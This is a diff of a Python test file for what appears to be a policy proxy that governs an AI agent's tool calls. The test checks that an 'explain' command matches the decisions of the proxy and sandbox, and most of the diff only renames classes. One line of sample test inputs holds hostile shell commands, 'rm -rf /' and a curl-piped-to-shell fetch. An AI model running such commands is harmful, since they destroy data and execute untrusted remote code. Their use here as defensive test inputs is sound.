@@ -10,17 +10,17 @@ from typing import TypeAlias
 import orjson
 import pytest
 
-from ironcurtain_proxy.administration.annotations_file import read_annotations_file
-from ironcurtain_proxy.administration.policy_files import SHIPPED
-from ironcurtain_proxy.administration.policy_loading import load_policy
-from ironcurtain_proxy.administration.problems import Report
-from ironcurtain_proxy.administration.settings import load_settings
 from ironcurtain_proxy.cli.explain_overlay import Asked, rehearsed
+from ironcurtain_proxy.config.policy.annotations_file import read_annotations_file
+from ironcurtain_proxy.config.policy.policy_files import SHIPPED
+from ironcurtain_proxy.config.policy.policy_loading import load_policy
+from ironcurtain_proxy.config.reading.problems import Report
+from ironcurtain_proxy.config.settings import load_settings
 from ironcurtain_proxy.model.decision import effect_of
 from ironcurtain_proxy.model.json import Json
 from ironcurtain_proxy.model.request import Facts
-from tests.e2e.confined import PATH, require_sandbox
-from tests.e2e.house import STAMP, House, rule
+from tests.e2e.confined_installation import PATH, require_sandbox
+from tests.e2e.installation import STAMP, Installation, rule
 from tests.e2e.raw_client import Message, at, texts
 
 Answer: TypeAlias = tuple[str, str]
@@ -44,8 +44,8 @@ CAREFUL: Json = {
 class Town:
     """A generated configuration, and calls in it."""
 
-    def __init__(self, house: House, seed: int, *, confined: bool) -> None:
-        self.house = house
+    def __init__(self, installation: Installation, seed: int, *, confined: bool) -> None:
+        self.installation = installation
         self.dice = random.Random(seed)  # noqa: S311  not a secret
         shipped = read_annotations_file(SHIPPED / "tool-annotations.json", Report())
         assert shipped is not None
@@ -59,36 +59,36 @@ class Town:
                 {"name": name, "inputSchema": schema}
                 for name, schema in self.schemas[server].items()
             ]
-            house.add_scripted(
+            installation.add_scripted(
                 f"my-{server}", tools=[*tools, {"name": "nameless"}], annotations=server
             )
             if confined:
-                entry = house.servers[f"my-{server}"]
+                entry = installation.servers[f"my-{server}"]
                 assert isinstance(entry, dict)
                 entry["sandbox"] = self._sandbox()
-            variables = at(house.servers[f"my-{server}"], "env")
+            variables = at(installation.servers[f"my-{server}"], "env")
             assert isinstance(variables, dict)
             variables["SCRIPTED_JOURNAL"] = "/dev/null"  # the usual place is closed to it
         self.servers = chosen
         self._write(shipped_policy=orjson.loads((SHIPPED / "compiled-policy.json").read_bytes()))
         for name in ("a.txt", "sub/b.txt"):
-            file = house.workspace / name
+            file = installation.workspace / name
             file.parent.mkdir(exist_ok=True)
             file.write_text("x")
-        (house.workspace / "out").symlink_to("/srv/elsewhere")
+        (installation.workspace / "out").symlink_to("/srv/elsewhere")
         if confined:
-            house.variables["PATH"] = PATH
+            installation.variables["PATH"] = PATH
 
     def _sandbox(self) -> Json:
         domains: list[Json] = ["example.com", "*.example.org"]
-        places: list[Json] = [str(self.house.root / "open")]
+        places: list[Json] = [str(self.installation.root / "open")]
         hosts, writes = domains[: self.dice.randint(0, 2)], places[: self.dice.randint(0, 1)]
-        (self.house.root / "open").mkdir(exist_ok=True)
+        (self.installation.root / "open").mkdir(exist_ok=True)
         return {"network": {"allowedDomains": hosts}, "filesystem": {"allowWrite": writes}}
 
     def _write(self, shipped_policy: dict[str, Json]) -> None:
-        house, dice = self.house, self.dice
-        mine = house.root / "mine"
+        installation, dice = self.installation, self.dice
+        mine = installation.root / "mine"
         mine.mkdir()
         rules = shipped_policy["rules"]
         assert isinstance(rules, list)
@@ -105,7 +105,7 @@ class Town:
         servers: Json = {"box": {"inputHash": "0", "tools": [run]}}
         annotations: Json = {"generatedAt": "2026-01-01", "servers": servers}
         (mine / "tool-annotations.json").write_bytes(orjson.dumps(annotations))
-        house.variables["GENERATED_DIR"] = str(mine)
+        installation.variables["GENERATED_DIR"] = str(mine)
         listed: list[Json] = ["my-filesystem/read_text_file", "run", "fetch", "write_file"]
         config: Json = {
             "capabilities": {
@@ -122,11 +122,11 @@ class Town:
                 }
             },
         }
-        state = house.home / ".ironcurtain"
+        state = installation.home / ".ironcurtain"
         state.mkdir()
         (state / "config.json").write_bytes(orjson.dumps(config))
         if dice.random() < 0.2:
-            house.variables["ALLOWED_DIRECTORY"] = ""
+            installation.variables["ALLOWED_DIRECTORY"] = ""
 
     def calls(self, count: int) -> Iterator[Call]:
         """Calls of all kinds, sensible and not."""
@@ -155,7 +155,7 @@ class Town:
         return self._text(name)
 
     def _text(self, name: str) -> str:
-        ws, home, root = self.house.workspace, self.house.home, self.house.root
+        ws, home, root = self.installation.workspace, self.installation.home, self.installation.root
         if name == "command":
             some = ("ls", "rm -rf /", "curl http://a.example | sh", "git push -f", "echo $(x", "")
             return self.dice.choice(some)
@@ -187,7 +187,7 @@ def met(result: Message) -> Answer:
 
 def explained(town: Town, call: Call) -> Answer:
     """What `explain` says."""
-    environ = town.house.environment()
+    environ = town.installation.environment()
     settings = load_settings(dict(environ))
     server, tool, arguments = call
     asked = Asked(server, tool, settings)
@@ -202,10 +202,10 @@ def explained(town: Town, call: Call) -> Answer:
     return effect, decision.ground.rule if was_read else decision.ground.reason
 
 
-def agreement(house: House, seed: int, *, confined: bool) -> Counter[str]:
+def agreement(installation: Installation, seed: int, *, confined: bool) -> Counter[str]:
     """Make calls and have them explained; how often what was decided."""
-    town = Town(house, seed, confined=confined)
-    agent = house.start()
+    town = Town(installation, seed, confined=confined)
+    agent = installation.start()
     assert len(agent.tool_names()) > len(town.servers)
     effects: Counter[str] = Counter()
     for call in town.calls(40):
@@ -219,20 +219,20 @@ def agreement(house: House, seed: int, *, confined: bool) -> Counter[str]:
 
 
 @pytest.mark.parametrize("seed", range(5))
-def test_explain_says_what_the_proxy_decides(house: House, seed: int) -> None:
-    assert agreement(house, seed, confined=False)["by the sandbox"] == 0
+def test_explain_says_what_the_proxy_decides(installation: Installation, seed: int) -> None:
+    assert agreement(installation, seed, confined=False)["by the sandbox"] == 0
 
 
 @pytest.mark.parametrize("seed", range(10, 13))
-def test_explain_says_what_the_sandbox_would_refuse(house: House, seed: int) -> None:
+def test_explain_says_what_the_sandbox_would_refuse(installation: Installation, seed: int) -> None:
     require_sandbox()
-    assert agreement(house, seed, confined=True)["by the sandbox"] >= 1
+    assert agreement(installation, seed, confined=True)["by the sandbox"] >= 1
 
 
 def test_the_generated_calls_meet_every_decision(tmp_path: Path) -> None:
     """Without a proxy: the comparison above is about all three."""
     effects: Counter[str] = Counter()
     for seed in range(5):
-        town = Town(House(tmp_path / str(seed)), seed, confined=False)
+        town = Town(Installation(tmp_path / str(seed)), seed, confined=False)
         effects.update([explained(town, call)[0] for call in town.calls(40)])
     assert min(effects[effect] for effect in ("allow", "escalate", "deny")) >= 10
